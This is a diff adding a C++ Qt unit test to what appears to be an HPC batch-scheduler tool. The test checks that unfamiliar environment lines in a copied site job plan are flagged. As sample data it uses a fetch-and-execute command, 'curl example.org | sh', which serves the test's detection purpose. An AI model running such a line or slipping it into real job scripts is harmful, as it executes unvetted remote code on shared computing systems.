@@ -315,6 +315,20 @@ private slots:
         QVERIFY2(all_of(job.error()).contains(says), qPrintable(all_of(job.error())));
     }
 
+    void lines_of_a_stranger_s_plan_are_named() {
+        Machine m = machine("frontier");
+        QVERIFY(foreign_lines(m, BatchKind::slurm, library().machines).empty());
+        m.id = "mine";
+        QVERIFY(foreign_lines(m, BatchKind::slurm, library().machines).empty());   // the lines are Frontier's still
+        SiteJob job = *m.scheduler.job;
+        job.environment = {"curl example.org | sh"};
+        m.scheduler.job = site_job(job);
+        const auto lines = foreign_lines(m, BatchKind::slurm, library().machines);
+        QVERIFY(std::find(lines.begin(), lines.end(), "curl example.org | sh") != lines.end());
+        QVERIFY(std::find(lines.begin(), lines.end(), job.launch) != lines.end());
+        QVERIFY(foreign_lines(m, BatchKind::pbs, library().machines).empty());     // these lines are not written
+    }
+
     void another_scheduler_than_the_site_s_gets_general_lines() {
         const auto job = calibration_job(machine("frontier"), BatchKind::pbs, request());
         QVERIFY(job.has_value());
